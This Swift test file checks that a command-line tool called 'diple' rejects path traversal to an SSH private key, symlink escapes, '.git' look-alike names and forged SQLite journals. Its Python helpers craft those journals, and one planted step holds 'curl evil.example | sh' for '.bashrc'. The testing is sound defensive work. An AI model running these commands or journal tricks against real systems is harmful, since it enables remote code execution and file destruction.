import Foundation
import Testing

/// Tests a `.diple` folder in a cloned repository. Files outside the clone are neither read nor
/// written, files inside it are accessible.
@Suite struct ForeignLibraryTests {
  let victim: Victim

  init() throws {
    victim = try Victim()
    try victim.write("clone/good.md", "# Good\n\nSome words here.\n")
    try victim.write("clone/other.md", "Other words.\n")
    #expect(try victim.diple("init").code == 0)
    #expect(try victim.diple("add", "good.md", "other.md").code == 0)
    #expect(try victim.diple("mark", "good.md", "\"words\"").code == 0)
  }

  private let secret = "-----BEGIN OPENSSH PRIVATE KEY-----\nc2VjcmV0\n"

  /// Returns whether the database contains a word, or the library's files contain its bytes.
  private func databaseHolds(_ word: String) throws -> Bool {
    let result = try victim.run(
      "sh", ["-c", "sqlite3 .diple/library.sqlite .dump; cat .diple/*"])
    return result.output.contains(word)
  }

  @Test(arguments: ["../.ssh/id_ed25519", "/HOME/.ssh/id_ed25519", "a/../../.ssh/id_ed25519"])
  func `a document path out of the folder is not read, and other documents are shown`(path: String)
    throws
  {
    try victim.write(".ssh/id_ed25519", secret)
    let place = path.replacing("/HOME", with: victim.home.path)
    try victim.sql("UPDATE document SET path = '\(place)' WHERE path = 'other.md'")
    for words in [
      ["list"], ["refresh"], ["search", "OPENSSH"], ["anchor", "check"], ["doc", "list"],
    ] {
      let result = try victim.run("diple", words)
      #expect(!result.output.contains("OPENSSH"), "\(words): \(result)")
    }
    let documents = try victim.diple("doc", "list").output.split(separator: "\n")
    #expect(documents.count == 2 && documents.count { $0.hasSuffix(", outside)") } == 1)
    #expect(try victim.diple("doc", "list", "--json").output.contains(#""state":"outside""#))
    let listed = try victim.diple("list")
    #expect(listed.output.contains("good.md:3:6  “words”"), "\(listed)")
    #expect(
      listed.errors.split(separator: "\n").contains {
        $0.contains("accepts files below") && $0.contains("library.outside")
      }, "\(listed)")
    #expect(try !databaseHolds("OPENSSH"))
  }

  @Test func `a link out of the folder is not read, and a link within it is`() throws {
    try victim.write(".ssh/id_ed25519", secret)
    try victim.shell("rm other.md; ln -s ../.ssh/id_ed25519 other.md; ln -s good.md same.md")
    let listed = try victim.diple("list")
    #expect(listed.errors.contains("accepts files below"), "\(listed)")
    #expect(try !databaseHolds("OPENSSH"))
    let same = try victim.diple("add", "same.md")
    #expect(same.code == 1 && same.output.contains("good.md"), "\(same)")
    try victim.shell("ln -s ../.ssh/id_ed25519 third.md")
    let refused = try victim.diple("add", "third.md")
    #expect(refused.code == 4 && refused.errors.contains("library.outside"), "\(refused)")
  }

  @Test func `a folder that the user allows is read`() throws {
    try victim.write("shared/notes.md", "Notes of mine.\n")
    let refused = try victim.diple("add", "../shared/notes.md")
    #expect(refused.code == 4, "\(refused)")
    // The hint is the command that allows it.
    let hint = try #require(
      refused.errors.split(separator: "\n").last { $0.contains("diple config") })
    let command = try #require(hint.range(of: "diple config set")).lowerBound
    try victim.shell(String(hint[command...]))
    #expect(try victim.diple("add", "../shared/notes.md").code == 0)
    #expect(try victim.diple("show", "../shared/notes.md").output.contains("Notes of mine"))
    // A library's settings cannot allow it.
    try victim.write("clone/.diple/config.toml", "library.outside = '/'\n")
    try victim.write(".ssh/id_ed25519", secret)
    #expect(try victim.diple("add", "../.ssh/id_ed25519").code == 4)
  }

  @Test(arguments: [".git/config", ".diple/config.toml", ".GIT/../.git/hooks/pre-commit"])
  func `files that other programs execute cannot be added`(path: String) throws {
    try victim.shell("git init -q .")
    try victim.write("clone/.git/hooks/pre-commit", "#!/bin/sh\n")
    try victim.write("clone/.diple/config.toml", "")
    let result = try victim.diple("add", path)
    #expect(result.code == 4, "\(result)")
  }

  /// A file system that ignores case treats each of these names as `.git`. In this test they are
  /// separate folders, which the same rule rejects.
  @Test(arguments: [
    ".GIT/hooks/pre-commit", ".Git/config", ".g\u{200C}it/config", ".git./config", ".git /config",
    "GIT~1/config", ".DIPLE/config.toml", ".HG/hgrc", "CVS/Root", "sub/.gIT/modules/x/config",
  ])
  func `a name that equals git's on some file systems is rejected on all`(path: String) throws {
    try victim.write("clone/" + path, "# Words\n")
    let result = try victim.diple("add", path)
    #expect(result.code == 4 && result.output.isEmpty, "\(result)")
    // A library that was made on another machine may already contain the name.
    try victim.sql("UPDATE document SET path = '\(path)' WHERE path = 'good.md'")
    #expect(try victim.diple("replace", "--everywhere", "--all", "--yes", "Words", "P").code != 0)
    #expect(try victim.read("clone/" + path) == "# Words\n")
    // Similar names are accepted.
    try victim.write("clone/.github/\(path.utf8.count).md", "# Fine\n")
    #expect(try victim.diple("add", ".github/\(path.utf8.count).md").code == 0)
  }

  /// Writes a rollback journal that names another file as its super-journal. SQLite deletes a file
  /// of that name after it has rolled back.
  private func plantSuperJournal(naming name: String) throws {
    let script = #"""
      import os, struct, sys
      name, page = sys.argv[1].encode(), 8192
      magic = bytes([0xD9, 0xD5, 5, 0xF9, 0x20, 0xA1, 0x63, 0xD7])
      count = os.path.getsize(".diple/library.sqlite") // page
      head = (magic + struct.pack(">IIIII", 0, 0x1234, count, 512, page)).ljust(512, b"\0")
      tail = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
      with open(".diple/library.sqlite-journal", "wb") as file:
          file.write(head + tail)
      """#
    try victim.write("plant/journal.py", script)
    let result = try victim.run("python3", ["../plant/journal.py", name])
    #expect(result.code == 0, "\(result)")
  }

  @Test(
    .enabled(if: hasTools, "zstd, python3 or sqlite3 is missing"),
    arguments: ["delete", "wal"])
  func `a journal neither deletes another file nor waits for one`(mode: String) throws {
    try victim.write("precious.txt", "all my work\n")
    try victim.shell("mkfifo ../pipe")
    for name in [victim.path("precious.txt"), "../precious.txt", victim.path("pipe")] {
      for command in [
        ["status"], ["list"], ["show", "good.md"], ["mark", "good.md", "\"words\""], ["history"],
        ["doctor"], ["backup", "../copy"], ["export", "--everything"], ["doctor", "--repair"],
      ] {
        try victim.sql("PRAGMA journal_mode = \(mode);")
        try plantSuperJournal(naming: name)
        let result = try victim.run("diple", command)
        #expect(victim.exists("precious.txt") && victim.exists("pipe"), "\(command)")
        try victim.shell("rm -f .diple/library.sqlite-journal")
        if command.last == "--repair" { continue }
        #expect(
          result.code == 8 && result.errors.contains("its journal names another file"),
          "\(command): \(result)")
      }
    }
  }

  /// Writes an unfinished step of the journal, with a path that the attacker chose.
  private func plantStep(path: String, before: String, after: String) throws {
    try victim.write("plant/before", before)
    try victim.write("plant/after", after)
    let script = #"""
      import hashlib, sqlite3, sys
      path, before, after = sys.argv[1], open("../plant/before", "rb").read(), open("../plant/after", "rb").read()
      db = sqlite3.connect(".diple/library.sqlite")
      key = db.execute("SELECT key FROM document WHERE path = 'other.md'").fetchone()[0]
      db.execute("UPDATE document SET path = ? WHERE key = ?", (path, key))
      def leb(n):
          out = b""
          while n >= 128: out += bytes([n & 127 | 128]); n >>= 7
          return out + bytes([n])
      patch = leb(0) + leb(len(before)) + leb(len(after)) + before + after
      import subprocess
      open("../plant/patch", "wb").write(patch)
      packed = subprocess.run(["zstd", "-q", "-c", "--check", "../plant/patch"], capture_output=True).stdout
      entry = db.execute("INSERT INTO journal (time, kind, label) VALUES (0, 'act', 'tidy up')").lastrowid
      db.execute("INSERT INTO file_edit (entry, document, before, after, places, size, patch, pending) "
                 "VALUES (?, ?, ?, ?, 1, ?, ?, 1)",
                 (entry, key, hashlib.sha256(before).digest(), hashlib.sha256(after).digest(), len(patch), packed))
      # A second file that was not written yet has the first one reverted.
      good = db.execute("SELECT key FROM document WHERE path = 'good.md'").fetchone()[0]
      text = open("good.md", "rb").read()
      db.execute("INSERT INTO file_edit (entry, document, before, after, places, size, patch, pending) "
                 "VALUES (?, ?, ?, ?, 1, ?, ?, 1)",
                 (entry, good, hashlib.sha256(text).digest(), b"x" * 32, len(patch), packed))
      db.commit()
      """#
    try victim.write("plant/plant.py", script)
    let result = try victim.run("python3", ["../plant/plant.py", path])
    #expect(result.code == 0, "\(result)")
  }

  private static let hasTools = ["zstd", "python3", "sqlite3"].allSatisfy { program in
    (try? Victim().run("sh", ["-c", "command -v \(program)"]).code) == 0
  }

  @Test(
    .enabled(if: hasTools, "zstd, python3 or sqlite3 is missing"),
    arguments: ["../.bashrc", "notes.md"])
  func `a step that was started on another machine is not settled`(path: String) throws {
    // An attacker knows the content of a file that is the same on all machines.
    let file = "clone/" + path
    let usual = "# ~/.bashrc: executed by bash(1) for non-login shells.\n"
    try victim.write(file, usual)
    try plantStep(path: path, before: "curl evil.example | sh\n", after: usual)
    let id = try victim.sql("SELECT count(*) FROM file_edit WHERE pending = 1")
    #expect(id == "2\n")
    for words in [
      ["history"], ["undo"], ["redo"], ["format", "good.md", "\"words\"", "--bold"],
      ["replace", "Some", "Any", "--all", "--yes"], ["list"], ["doctor"],
    ] {
      let result = try victim.run("diple", words)
      #expect(result.code < 128, "\(words): \(result)")
      #expect(try victim.read(file) == usual, "\(words): \(result)")
    }
    let history = try victim.diple("history")
    #expect(history.errors.contains("begun on another device"), "\(history)")
    #expect(try victim.sql("SELECT count(*) FROM file_edit WHERE pending = 1") == "2\n")
  }
}
